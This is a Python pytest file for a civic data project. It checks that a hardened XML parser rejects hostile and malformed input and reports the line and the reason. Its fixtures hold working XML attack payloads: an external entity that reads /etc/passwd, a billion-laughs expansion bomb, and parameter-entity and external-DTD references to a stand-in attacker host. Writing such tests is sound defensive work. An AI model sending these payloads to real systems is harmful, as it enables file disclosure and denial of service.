"""Hostile and malformed XML is refused with the line and the reason."""

from __future__ import annotations

import pytest

from cityops.errors import InvalidInput, TooLarge
from cityops.programmes import XMLRejected, parse_iati
from cityops.safexml import parse_untrusted

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE iati-activities [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<iati-activities version="2.03">&secret;</iati-activities>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<iati-activities version="2.03">&lol9;</iati-activities>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [
<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
%remote;
]>
<x/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>

<!DOCTYPE iati-activities SYSTEM "http://attacker.invalid/iati.dtd">
<iati-activities version="2.03"/>"""


def test_external_entity_refused_with_line_and_reason() -> None:
    with pytest.raises(XMLRejected) as err:
        parse_iati(XXE)
    assert err.value.line == 3
    assert "external entity 'secret'" in err.value.reason
    assert "/etc/passwd" in err.value.message
    assert isinstance(err.value, InvalidInput) and err.value.field == "xml"


def test_billion_laughs_refused_with_line_and_reason() -> None:
    with pytest.raises(XMLRejected) as err:
        parse_iati(BILLION_LAUGHS)
    assert err.value.line == 3
    assert "entity expansion" in err.value.reason


def test_parameter_entity_refused() -> None:
    with pytest.raises(XMLRejected) as err:
        parse_untrusted(PARAMETER_ENTITY)
    assert err.value.line == 3
    assert "attacker.invalid" in err.value.reason


def test_doctype_without_entities_refused() -> None:
    with pytest.raises(XMLRejected) as err:
        parse_untrusted(EXTERNAL_DTD)
    assert err.value.line == 3
    assert "DOCTYPE" in err.value.reason


@pytest.mark.parametrize(
    ("data", "line", "reason"),
    [
        (
            (
                b"<iati-activities version='2.03'>\n<iati-activity>\n</iati-activitie>\n"
                b"</iati-activities>"
            ),
            3,
            "mismatched tag",
        ),
        (b"<iati-activities version='2.03'>\n\n&nbsp;</iati-activities>", 3, "undefined entity"),
        (
            b"<iati-activities version='2.03'>\n<a b='1' b='2'/></iati-activities>",
            2,
            "duplicate attribute",
        ),
        (b"", 1, "no element found"),
        (b"<iati-activities version='2.03'>\n<iati-activity>", 2, "no element found"),
    ],
)
def test_malformed_xml_refused_with_line_and_reason(data: bytes, line: int, reason: str) -> None:
    with pytest.raises(XMLRejected) as err:
        parse_iati(data)
    assert err.value.line == line
    assert f"line {line}" in err.value.message
    assert reason in err.value.reason
    assert "malformed XML" in err.value.reason


def test_schema_invalid_file_names_path_and_line() -> None:
    data = (
        b"<iati-activities version='2.03'>\n<iati-activity>\n"
        b"<iati-identifier>X</iati-identifier>\n<title/>\n</iati-activity>\n"
        b"</iati-activities>"
    )
    with pytest.raises(XMLRejected) as err:
        parse_iati(data)
    assert err.value.line == 4
    assert err.value.field == "/iati-activities/iati-activity/title"
    assert "reporting-org" in err.value.reason


def test_text_is_required_as_bytes_and_size_is_limited() -> None:
    with pytest.raises(InvalidInput):
        parse_untrusted("<x/>")  # type: ignore[arg-type]
    with pytest.raises(TooLarge):
        parse_untrusted(b"<x>" + b" " * 100 + b"</x>", max_bytes=50)


def test_one_parser_for_cap_feeds_and_iati() -> None:
    """CAP, feeds and IATI share cityops.safexml: the same refusal, naming each its field."""
    from cityops.cap import parse_cap, parse_feed

    for parse, field in ((parse_cap, "cap"), (parse_feed, "feed"), (parse_untrusted, "xml")):
        with pytest.raises(XMLRejected) as err:
            parse(XXE)
        assert err.value.line == 3 and err.value.field == field
        assert "external entity 'secret'" in err.value.reason


def test_the_size_limit_can_only_be_lowered() -> None:
    from cityops import safexml

    big = b"<x>" + b" " * safexml.MAX_BYTES + b"</x>"
    with pytest.raises(TooLarge):
        parse_untrusted(big, max_bytes=2 * safexml.MAX_BYTES)
